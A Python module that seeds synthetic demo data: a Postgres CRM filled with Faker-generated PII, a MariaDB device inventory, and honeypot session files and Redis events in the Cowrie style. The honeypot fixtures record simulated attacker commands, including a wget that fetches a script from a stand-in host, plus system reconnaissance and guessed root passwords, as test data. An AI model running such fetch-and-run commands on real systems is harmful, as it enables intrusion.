"""The sample source database the demo combs pull from: a small CRM with realistic synthetic PII
(Faker, fixed seed), and a read-only role whose password lives only in Vault."""

from __future__ import annotations

import secrets
from datetime import UTC, datetime, timedelta

import psycopg
from psycopg import sql

from include.db import ensure_database
from include.settings import get_settings

READER_ROLE = "sting_reader"

SCHEMA = """
CREATE SCHEMA IF NOT EXISTS crm;
CREATE TABLE IF NOT EXISTS crm.customers (
    id            BIGINT PRIMARY KEY,
    full_name     TEXT NOT NULL,
    email         TEXT NOT NULL,
    ssn           TEXT,
    phone_mobile  TEXT,
    phone_home    TEXT,
    date_of_birth DATE,
    city          TEXT,
    country       TEXT,
    segment       TEXT,
    lifetime_value NUMERIC(12, 2),
    notes         TEXT,
    created_at    TIMESTAMPTZ NOT NULL,
    updated_at    TIMESTAMPTZ NOT NULL
);
CREATE INDEX IF NOT EXISTS idx_customers_updated_at ON crm.customers (updated_at);
CREATE TABLE IF NOT EXISTS crm.support_tickets (
    id             BIGINT PRIMARY KEY,
    customer_id    BIGINT REFERENCES crm.customers(id),
    subject        TEXT NOT NULL,
    body           TEXT NOT NULL,
    reporter_email TEXT,
    created_at     TIMESTAMPTZ NOT NULL,
    updated_at     TIMESTAMPTZ NOT NULL
);
"""


def seed_sample_source(n_customers: int = 5000, n_tickets: int = 1500, dsn: str | None = None) -> dict:
    """Create (once) and fill (when empty) the sample CRM. Returns row counts."""
    s = get_settings()
    ensure_database(s.sample_source_db)
    dsn = dsn or s.dsn(s.sample_source_db)
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute(SCHEMA)
        if not conn.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (READER_ROLE,)).fetchone():
            try:
                conn.execute(sql.SQL("CREATE ROLE {} LOGIN").format(sql.Identifier(READER_ROLE)))
            except psycopg.errors.DuplicateObject:
                pass
        conn.execute(sql.SQL("GRANT USAGE ON SCHEMA crm TO {}").format(sql.Identifier(READER_ROLE)))
        conn.execute(sql.SQL("GRANT SELECT ON ALL TABLES IN SCHEMA crm TO {}").format(sql.Identifier(READER_ROLE)))
        have = conn.execute("SELECT count(*) FROM crm.customers").fetchone()[0]
        if have == 0:
            _fill(conn, n_customers, n_tickets)
        return {
            "customers": conn.execute("SELECT count(*) FROM crm.customers").fetchone()[0],
            "support_tickets": conn.execute("SELECT count(*) FROM crm.support_tickets").fetchone()[0],
        }


def reader_password_rotate(dsn: str | None = None) -> str:
    """Give the reader role a fresh random password; returns it (to be stored in Vault only)."""
    s = get_settings()
    password = secrets.token_urlsafe(24)
    with psycopg.connect(dsn or s.dsn(s.sample_source_db), autocommit=True) as conn:
        conn.execute(sql.SQL("ALTER ROLE {} PASSWORD {}").format(sql.Identifier(READER_ROLE), sql.Literal(password)))
    return password


def _fill(conn, n_customers: int, n_tickets: int) -> None:
    from faker import Faker

    fake = Faker(["en_US", "en_GB", "de_DE", "fr_FR"])
    Faker.seed(20261123)
    now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
    segments = ["enterprise", "smb", "consumer", "public_sector"]
    with conn.cursor() as cur:
        with cur.copy(
            "COPY crm.customers (id, full_name, email, ssn, phone_mobile, phone_home, date_of_birth, city,"
            " country, segment, lifetime_value, notes, created_at, updated_at) FROM STDIN"
        ) as copy:
            for i in range(1, n_customers + 1):
                f = fake[["en_US", "en_GB", "de_DE", "fr_FR"][i % 4]]
                name = f.name()
                updated = now - timedelta(minutes=(i * 37) % (3 * 24 * 60))
                created = updated - timedelta(days=(i % 400))
                note = (
                    f"{name} called about invoice {f.bothify('INV-####')}; call back on "
                    f"{f.phone_number()} or write to {f.email()}. {f.sentence(nb_words=10)}"
                )
                copy.write_row((
                    i, name, f.email(), fake["en_US"].ssn(), f.phone_number(),
                    f.phone_number() if i % 3 else None, f.date_of_birth(minimum_age=18, maximum_age=90),
                    f.city(), f.country_code(), segments[i % 4], round((i * 7919 % 100000) / 7, 2),
                    note, created, updated,
                ))
        with cur.copy(
            "COPY crm.support_tickets (id, customer_id, subject, body, reporter_email, created_at,"
            " updated_at) FROM STDIN"
        ) as copy:
            en = fake["en_US"]
            for i in range(1, n_tickets + 1):
                created = now - timedelta(minutes=(i * 53) % (7 * 24 * 60))
                copy.write_row((
                    i, 1 + (i * 31) % n_customers, en.sentence(nb_words=6).rstrip("."),
                    f"{en.paragraph(nb_sentences=3)} Contact: {en.name()}, {en.phone_number()}.",
                    en.email(), created, created + timedelta(hours=i % 48),
                ))


# ---------------------------------------------------------------- MariaDB: asset inventory
ASSETS_DB = "sting_sample_assets"
ASSETS_READER = "sting_reader"


def seed_sample_mysql(n_assets: int = 400) -> dict:
    """A device inventory in MariaDB (the sample of the database/mariadb comb): created once,
    filled when empty; a reader user with a fresh random password, returned for Vault only."""
    import pymysql
    from faker import Faker

    s = get_settings()
    conn = pymysql.connect(host=s.mysql_host, port=s.mysql_port, user="root", autocommit=True, connect_timeout=5)
    password = secrets.token_urlsafe(24)
    try:
        with conn.cursor() as c:
            c.execute(f"CREATE DATABASE IF NOT EXISTS `{ASSETS_DB}`")
            c.execute(f"""CREATE TABLE IF NOT EXISTS `{ASSETS_DB}`.assets (
                id BIGINT PRIMARY KEY, hostname VARCHAR(100) NOT NULL, owner_name VARCHAR(200),
                owner_email VARCHAR(200), ip_address VARCHAR(45), mac_address VARCHAR(17),
                serial_number VARCHAR(40), site VARCHAR(100), notes TEXT,
                updated_at DATETIME(6) NOT NULL, KEY idx_updated_at (updated_at))""")
            c.execute(f"SELECT COUNT(*) FROM `{ASSETS_DB}`.assets")
            if c.fetchone()[0] == 0:
                fake = Faker("en_US")
                Faker.seed(20261124)
                now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0, tzinfo=None)
                rows = []
                for i in range(1, n_assets + 1):
                    owner = fake.name()
                    rows.append((i, f"host-{i:04d}.corp.example.com", owner, fake.company_email(),
                                 fake.ipv4_private(), fake.mac_address(), fake.bothify("SN-####-????").upper(),
                                 fake.city(), f"Assigned to {owner}; ticket from {fake.email()}",
                                 now - timedelta(minutes=(i * 41) % (3 * 24 * 60))))
                c.executemany(f"INSERT INTO `{ASSETS_DB}`.assets VALUES (%s,%s,%s,%s,%s,%s,%s,%s,%s,%s)", rows)
            c.execute("CREATE USER IF NOT EXISTS %s@'%%' IDENTIFIED BY %s", (ASSETS_READER, password))
            c.execute("ALTER USER %s@'%%' IDENTIFIED BY %s", (ASSETS_READER, password))
            c.execute(f"GRANT SELECT ON `{ASSETS_DB}`.* TO %s@'%%'", (ASSETS_READER,))
            c.execute(f"SELECT COUNT(*) FROM `{ASSETS_DB}`.assets")
            count = c.fetchone()[0]
    finally:
        conn.close()
    return {"assets": count, "password": password}


# ---------------------------------------------------------------- files, stream events
def write_sample_landing(folder) -> list[str]:
    """Honeypot session exports as an operator would drop them: CSV, JSON Lines, Parquet, and
    one malformed line (rejected alone). Deterministic content: rewriting changes nothing."""
    import json
    from pathlib import Path

    import pyarrow as pa
    import pyarrow.parquet as pq
    from pyarrow import csv

    folder = Path(folder)
    (folder / "2026-11").mkdir(parents=True, exist_ok=True)
    rows = [{"session_id": i, "honey_jar": f"ssh-{i % 3:02d}", "src_ip": f"203.0.113.{i % 250}",
             "username": ["root", "admin", "pi", "ubuntu"][i % 4], "password": f"guess{i}",
             "commands": f"uname -a; wget http://198.51.100.{i % 200}/x.sh",
             "started_at": f"2026-11-{1 + i % 20:02d}T{i % 24:02d}:00:00Z"} for i in range(1, 121)]
    out = []
    p = folder / "2026-11" / "sessions-a.csv"
    csv.write_csv(pa.Table.from_pylist(rows[:40]), p)
    out.append(str(p))
    p = folder / "2026-11" / "sessions-b.jsonl"
    lines = [json.dumps(r) for r in rows[40:80]]
    lines.insert(5, '{"session_id": 9999, "truncated')  # a malformed export line
    p.write_text("\n".join(lines) + "\n")
    out.append(str(p))
    p = folder / "2026-11" / "sessions-c.parquet"
    pq.write_table(pa.Table.from_pylist(rows[80:]), p)
    out.append(str(p))
    return out


SAMPLE_STREAM = "sting:events:honeypot"


def publish_sample_events(n: int = 200, redis_url: str | None = None) -> int:
    """Honeypot events on a Redis stream (one malformed), in the Cowrie style the event pipeline
    reads (the stream comb delivers them as Parquet; event_ingestion takes its outputs). Returns
    the stream length."""
    import json

    import redis

    r = redis.Redis.from_url(redis_url or get_settings().redis_url)
    sources = ["61.177.172.13", "218.92.0.107", "141.98.11.11", "89.248.165.52", "45.33.32.156"]
    try:
        pipe = r.pipeline()
        base = datetime.now(UTC).replace(microsecond=0)
        for i in range(1, n + 1):
            if i == n // 2:
                pipe.xadd(SAMPLE_STREAM, {"data": "{not json"})
                continue
            kind = ["cowrie.login.failed", "cowrie.command.input", "scan.port"][i % 3]
            ev = {"eventid": kind, "sensor": f"ssh-{i % 3:02d}", "src_ip": sources[i % len(sources)],
                  "dst_port": 22, "timestamp": (base - timedelta(seconds=n - i)).isoformat(), "session": f"c{i // 10}"}
            if kind == "cowrie.login.failed":
                ev.update(username="root", password=f"p@ss{i}")
            elif kind == "cowrie.command.input":
                ev["input"] = ["uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x.sh"][i % 3]
            else:
                ev["dst_port"] = [22, 23, 80, 443, 2323][i % 5]
            pipe.xadd(SAMPLE_STREAM, {"data": json.dumps(ev)})
        pipe.execute()
        return r.xlen(SAMPLE_STREAM)
    finally:
        r.close()
